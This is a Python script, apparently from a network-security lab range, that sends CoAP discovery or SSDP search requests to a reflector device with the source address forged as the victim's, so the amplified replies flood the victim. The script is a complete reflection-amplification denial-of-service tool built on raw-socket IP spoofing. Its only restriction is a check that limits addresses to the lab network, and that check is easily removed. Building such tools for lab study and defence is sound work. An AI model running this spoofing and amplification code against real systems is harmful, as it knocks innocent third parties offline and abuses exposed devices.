"""Questions in a victim's name, so that the answers go there: CoAP discovery or an SSDP search, sent to one device.

Only addresses of the lab may be given, so that no answer is meant for anybody else.

References: RFC 7252 11.3 (amplification), RFC 6690 4 (discovery), UPnP Device Architecture 2.0, 1.3.2 (search).
"""

import ipaddress
import socket
from collections.abc import Sequence

from wardline_range.packets import frames
from wardline_range.protocols import coap, ssdp
from wardline_range.real.plan import NETWORK
from wardline_range.real.programs import lifetime
from wardline_range.real.programs.pace import beats

_LOOPBACK = "127.0.0.0/8"
_TTL = 64
_PORTS = {"coap": coap.PORT, "ssdp": ssdp.PORT}


def main(given: Sequence[str] | None = None) -> None:
    """Ask until the time is over."""
    parser = lifetime.arguments(__doc__)
    parser.add_argument("--protocol", choices=sorted(_PORTS), required=True)
    parser.add_argument("--reflector", type=in_the_lab, required=True)
    parser.add_argument("--victim", type=in_the_lab, required=True)
    parser.add_argument("--port", type=int, default=0, help="of the reflector; the protocol's own where none is given")
    parser.add_argument("--victim-port", type=int, required=True)
    parser.add_argument("--seconds", type=float, default=20.0)
    parser.add_argument("--rate", type=float, default=50.0, help="questions a second")
    told = parser.parse_args(given)
    victim = told.victim, told.victim_port
    reflector = told.reflector, told.port or _PORTS[told.protocol]
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as out:
        for number in beats(told.seconds, 1 / told.rate):
            out.sendto(forged(victim, reflector, question(told.protocol, number), number), (told.reflector, 0))


def in_the_lab(address: str) -> str:
    """An address of the lab or of the machine itself. Raises ValueError for any other."""
    if not any(ipaddress.IPv4Address(address) in ipaddress.IPv4Network(one) for one in (NETWORK, _LOOPBACK)):
        raise ValueError(f"{address} is not in {NETWORK}")
    return address


def question(protocol: str, number: int) -> bytes:
    """What is asked: all that the device has."""
    if protocol == "ssdp":
        return ssdp.search("ssdp:all")
    return coap.request(coap.GET, number, b"", coap.DISCOVERY, is_confirmable=False)


def forged(victim: tuple[str, int], reflector: tuple[str, int], payload: bytes, number: int) -> bytes:
    """An IPv4 packet that says it is from the victim."""
    datagram = frames.udp(victim, reflector, payload)
    return frames.ipv4(victim[0], reflector[0], frames.UDP, datagram, ident=number, ttl=_TTL)


if __name__ == "__main__":
    main()
